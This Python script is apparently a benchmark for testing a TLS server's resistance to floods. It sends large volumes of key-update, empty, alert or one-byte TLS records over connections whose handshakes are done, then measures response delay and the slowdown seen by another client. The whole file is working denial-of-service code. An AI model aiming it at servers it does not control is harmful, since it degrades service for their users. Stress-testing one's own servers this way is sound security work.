#!/usr/bin/env python3
"""A flood of TLS records that bring no application data, over a connection whose handshake is done.

    Benchmarks/attack/records.py --port 8443 --kind keyupdate --records 200000

prepares the records, sends them at once, and says how long the server took until the connection ended or a request behind them was answered,
and how long a TLS handshake of another client took at the worst meanwhile. Needs the package `cryptography`.
"""

import argparse
import socket
import ssl
import threading
import time

from tls13 import ALERT, KEY_UPDATE_REQUESTED, Connection

REQUEST = b"GET /nothing HTTP/1.1\r\nhost: localhost\r\n\r\n"


def prepared(connection, kind, count):
    parts = []
    for number in range(count):
        if kind == "keyupdate":
            parts.append(connection.key_update())
        elif kind == "requested":
            parts.append(connection.key_update(KEY_UPDATE_REQUESTED))
        elif kind == "empty":
            parts.append(connection.sealed(b""))
        elif kind == "cancelled":
            parts.append(connection.sealed(b"\x01\x5a", ALERT))
        elif kind == "bytes":
            parts.append(connection.sealed(REQUEST[number % len(REQUEST) :][:1]))
        elif kind == "mixed":
            parts.append(connection.key_update() if number % 2 else connection.sealed(b"\r\n"))
    return b"".join(parts)


def watch(host, port, stop, worst):
    """How long a new client waits for its handshake and an answer, again and again."""
    context = ssl._create_unverified_context()
    while not stop.is_set():
        start = time.monotonic()
        try:
            with socket.create_connection((host, port), 30) as plain, context.wrap_socket(plain) as client:
                client.sendall(REQUEST)
                client.recv(4096)
        except OSError as error:
            print(f"another client failed: {error}")
        worst.append(time.monotonic() - start)
        time.sleep(0.01)


def attack(connection, flood):
    start = time.monotonic()
    try:
        connection.socket.sendall(flood)
        connection.socket.sendall(connection.sealed(REQUEST))
    except OSError:
        return time.monotonic() - start
    connection.read()
    return time.monotonic() - start


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=8443)
    parser.add_argument(
        "--kind", choices=["keyupdate", "requested", "empty", "cancelled", "bytes", "mixed"], default="keyupdate")
    parser.add_argument("--records", type=int, default=100_000, help="on each connection")
    parser.add_argument("--connections", type=int, default=1)
    options = parser.parse_args()

    connections = [Connection(options.host, options.port) for _ in range(options.connections)]
    floods = [prepared(connection, options.kind, options.records) for connection in connections]
    stop, waits = threading.Event(), []
    watcher = threading.Thread(target=watch, args=(options.host, options.port, stop, waits))
    watcher.start()
    time.sleep(0.5)
    before, taken = len(waits), []
    threads = [
        threading.Thread(target=lambda pair=pair: taken.append(attack(*pair))) for pair in zip(connections, floods)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    stop.set()
    watcher.join()
    total = sum(map(len, floods))
    print(
        f"{options.kind}: {options.records * options.connections} records, {total / 1e6:.1f} MB, over after {max(taken):.2f} s; "
        f"another client waited {max(waits[:before] or [0]) * 1000:.0f} ms at most before, {max(waits[before:] or [0]) * 1000:.0f} ms meanwhile")


if __name__ == "__main__":
    main()
